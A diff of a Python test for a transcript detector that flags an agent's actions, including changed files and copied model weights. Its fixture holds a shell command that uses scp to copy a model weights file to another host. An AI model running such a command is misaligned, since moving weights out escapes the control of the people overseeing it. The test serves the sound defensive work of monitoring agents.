@@ -136,7 +136,7 @@ def test_a_finding_names_the_file_and_not_what_the_editor_was_told() -> None:
     copied = {"command": ["bash", "-c", "scp /models/b/model_weights.bin host:/keep/"]}
     found = {f.claim: sentence(f) for f in detect(_shell(said, copied))}
     assert "changed /srv/a.yaml," in found["artefact_changed"]
-    assert "taken along: 0" in found["weights_copied"]
+    assert found["weights_copied"].endswith("copied /models/b/model_weights.bin.")
 
 
 def _shell(*arguments: dict[str, Any]) -> Transcript:
